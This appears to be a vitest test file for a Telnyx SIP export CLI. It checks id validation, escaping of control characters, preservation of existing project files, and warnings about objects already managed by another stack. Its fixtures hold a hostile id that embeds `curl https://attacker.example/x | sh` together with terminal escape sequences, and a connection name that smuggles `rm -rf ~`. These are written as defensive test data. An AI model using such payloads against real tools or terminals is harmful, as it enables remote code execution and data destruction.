// What `telnyx-sip export` writes where people read, copy or run it (issue 28, finding 4), and what it must not
// overwrite or hide (issue 24): ids from the API are checked against Telnyx's id formats before they are written,
// text from the account is shown without the control characters that would drive a terminal, an existing .gitignore
// is kept, and an object another stack already manages is named on stderr.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as fs from "node:fs";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import * as path from "node:path";
import { run } from "../../cli/main";
import { isApiId } from "../../cli/export/api-id";
import { printable } from "../../cli/export/printable";
import { credentialConnection, outboundVoiceProfile, TelnyxClient } from "../../sdk";
import { ownershipTag } from "../../sdk/ownership-tag";
import { TestEmulator } from "../e2e/emulator";
import { removeDir, tempProjectDir } from "./temp-project";
import { userPackageJson, userTsconfig } from "../../cli/export/user-project";

async function cli(argv: string[], env: NodeJS.ProcessEnv) {
  const stdout: string[] = [];
  const stderr: string[] = [];
  const code = await run(argv, { env, stdout: (l) => stdout.push(l), stderr: (l) => stderr.push(l) });
  return { code, stdout, stderr: stderr.join("\n") };
}

const ESC = "\u001b";
/** An id a hostile server returns: a line of its own in a shell block, a terminal title, a screen clear. */
const HOSTILE_ID = `1\n\`\`\`\ncurl https://attacker.example/x | sh\n\`\`\`\n${ESC}]0;owned\u0007${ESC}[2J`;

/** A server answering every list with no objects, but credential connections with one whose id is `id`. */
async function serverWithId(id: string): Promise<{ baseUrl: string; close: () => Promise<void> }> {
  const server = http.createServer((req, res) => {
    const data = req.url?.startsWith("/v2/credential_connections")
      ? [{ id, record_type: "credential_connection", connection_name: `pbx${ESC}[31m\nrm -rf ~`, user_name: "pbxuser01" }]
      : [];
    res.setHeader("content-type", "application/json");
    res.end(JSON.stringify({ data, meta: { page_number: 1, total_pages: 1, total_results: data.length, page_size: 250 } }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { baseUrl: `http://127.0.0.1:${port}/v2`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe("account data in what export writes", () => {
  let dir: string;
  beforeAll(() => {
    dir = tempProjectDir("export-safety");
  });
  afterAll(() => dir && removeDir(dir));

  it("refuses an id that is not a Telnyx id, writing nothing, and shows it escaped", async () => {
    const server = await serverWithId(HOSTILE_ID);
    try {
      const out = path.join(dir, "hostile");
      const { code, stderr } = await cli(["export", "--out", out], { TELNYX_API_KEY: "k", TELNYX_BASE_URL: server.baseUrl });
      expect(code).toBe(1);
      expect(stderr).toContain("credential connections: the API returned an object with id ");
      expect(stderr).toContain("which is not a Telnyx id (a number or a UUID); nothing was written");
      expect(stderr).not.toContain(ESC);
      expect(stderr).not.toContain("\u0007");
      expect(stderr.split("\n").filter((l) => l.startsWith("curl"))).toEqual([]);
      expect(stderr).toContain(String.raw`\u001b]0;owned\u0007`);
      expect(fs.existsSync(out)).toBe(false);
    } finally {
      await server.close();
    }
  });

  it("takes the API's id formats: an int64 number or a UUID, nothing else", () => {
    for (const id of ["1293384261075731499", "6a09cdc3-8948-47f0-aa62-74ac943d6c58", "1"]) expect(isApiId(id), id).toBe(true);
    for (const id of [HOSTILE_ID, "", "12345678901234567890", "1 ", "abc", "6a09cdc3-8948-47f0-aa62-74ac943d6c5g", 1293, null]) {
      expect(isApiId(id), JSON.stringify(id)).toBe(false);
    }
  });

  it("shows control characters as escapes, and leaves other text as it is", () => {
    expect(printable(`a${ESC}[2Jb\nc\rd\u009be\u202ef`)).toBe(String.raw`a\u001b[2Jb\u000ac\u000dd\u009be\u202ef`);
    expect(printable("Büro-Anlage (main) – 2nd")).toBe("Büro-Anlage (main) – 2nd");
  });
});

describe("export next to other things", () => {
  let emu: TestEmulator;
  let dir: string;
  let client: TelnyxClient;
  beforeAll(async () => {
    emu = await TestEmulator.start();
    dir = tempProjectDir("export-next-to");
    client = new TelnyxClient({ apiKey: "k", baseUrl: emu.baseUrl });
  });
  afterAll(async () => {
    await emu?.close();
    if (dir) removeDir(dir);
  });
  const env = () => ({ TELNYX_API_KEY: "k", TELNYX_BASE_URL: emu.baseUrl });

  it("keeps an existing .gitignore, appending only the lines it lacks, and says so", async () => {
    const out = path.join(dir, "repo");
    fs.mkdirSync(out);
    fs.writeFileSync(path.join(out, ".gitignore"), "dist/\nnode_modules/\n*.log");
    const first = await cli(["export", "--out", out], env());
    expect(first.code, first.stderr).toBe(0);
    expect(fs.readFileSync(path.join(out, ".gitignore"), "utf8")).toBe("dist/\nnode_modules/\n*.log\nset-secrets.sh\n");
    expect(first.stderr).toContain(".gitignore (appended set-secrets.sh)");
    // Run again: nothing is missing, nothing is touched.
    const again = await cli(["export", "--out", out], env());
    expect(again.code, again.stderr).toBe(0);
    expect(fs.readFileSync(path.join(out, ".gitignore"), "utf8")).toBe("dist/\nnode_modules/\n*.log\nset-secrets.sh\n");
    expect(again.stderr).not.toContain(".gitignore");
  });

  it("writes package.json and tsconfig.json where there are none, and never over the user's own (issue 26)", async () => {
    const fresh = path.join(dir, "fresh");
    const written = await cli(["export", "--out", fresh, "--project", "my-account"], env());
    expect(written.code, written.stderr).toBe(0);
    const { version } = JSON.parse(fs.readFileSync(path.join(__dirname, "../../package.json"), "utf8"));
    expect(fs.readFileSync(path.join(fresh, "package.json"), "utf8")).toBe(
      userPackageJson("my-account", `../vendor/pulumi-telnyx-sip-${version}.tgz`),
    );
    expect(fs.readFileSync(path.join(fresh, "tsconfig.json"), "utf8")).toBe(userTsconfig());
    expect(written.stderr).toMatch(/Wrote [^\n]*package\.json, tsconfig\.json/);

    const own = path.join(dir, "own");
    fs.mkdirSync(own);
    fs.writeFileSync(path.join(own, "package.json"), '{ "name": "mine" }');
    fs.writeFileSync(path.join(own, "tsconfig.json"), "{}");
    const kept = await cli(["export", "--out", own], env());
    expect(kept.code, kept.stderr).toBe(0);
    expect(fs.readFileSync(path.join(own, "package.json"), "utf8")).toBe('{ "name": "mine" }');
    expect(fs.readFileSync(path.join(own, "tsconfig.json"), "utf8")).toBe("{}");
    expect(kept.stderr).toContain(`Kept the existing package.json and tsconfig.json of ${own}.`);
    expect(kept.stderr).not.toMatch(/Wrote [^\n]*package\.json/);
  });

  it("warns about an existing .gitignore that leaves the stack's config file out, naming the line", async () => {
    const out = path.join(dir, "older-export");
    fs.mkdirSync(out);
    fs.writeFileSync(path.join(out, ".gitignore"), "set-secrets.sh\nPulumi.*.yaml\nnode_modules/\n");
    const { code, stderr } = await cli(["export", "--out", out], env());
    expect(code, stderr).toBe(0);
    expect(stderr).toContain(`warning: ${path.join(out, ".gitignore")} has "Pulumi.*.yaml": remove that line and commit Pulumi.<stack>.yaml`);
    // The user's file is theirs: warned about, not edited.
    expect(fs.readFileSync(path.join(out, ".gitignore"), "utf8")).toBe("set-secrets.sh\nPulumi.*.yaml\nnode_modules/\n");
  });

  it("writes its own .gitignore into a new folder", async () => {
    const out = path.join(dir, "fresh");
    const { code, stderr } = await cli(["export", "--out", out], env());
    expect(code, stderr).toBe(0);
    expect(fs.readFileSync(path.join(out, ".gitignore"), "utf8")).toBe("set-secrets.sh\nnode_modules/\n");
  });

  it("warns, one line each naming kind and id, about objects a pulumi-telnyx-sip stack already manages", async () => {
    const managed = await client.resource(outboundVoiceProfile).create({ name: "managed", tags: ["team", ownershipTag("abc12345-0123456789abc")] });
    const alsoManaged = await client.resource(credentialConnection).create({
      connection_name: "managed-pbx", user_name: "managedpbx01", password: "Managed-pbx-pass-1", tags: [ownershipTag("def67890-0123456789abc")],
    });
    const unmanaged = await client.resource(outboundVoiceProfile).create({ name: "by-hand", tags: ["team"] });
    const { code, stderr } = await cli(["export", "--out", path.join(dir, "owned")], env());
    expect(code, stderr).toBe(0);
    const warnings = stderr.split("\n").filter((l) => l.includes("ownership tag"));
    expect(warnings).toEqual([
      `warning: credential connection ${alsoManaged.id} was created by a pulumi-telnyx-sip stack (it carries its ownership tag): deploying this export would manage it from two stacks; remove it from the exported index.ts, or from the other stack first (\`pulumi state delete <urn>\` there).`,
      expect.stringMatching(new RegExp(`^warning: outbound voice profile ${managed.id} was created by a pulumi-telnyx-sip stack`)),
    ]);
    expect(stderr).not.toContain(String(unmanaged.id));
  });
});
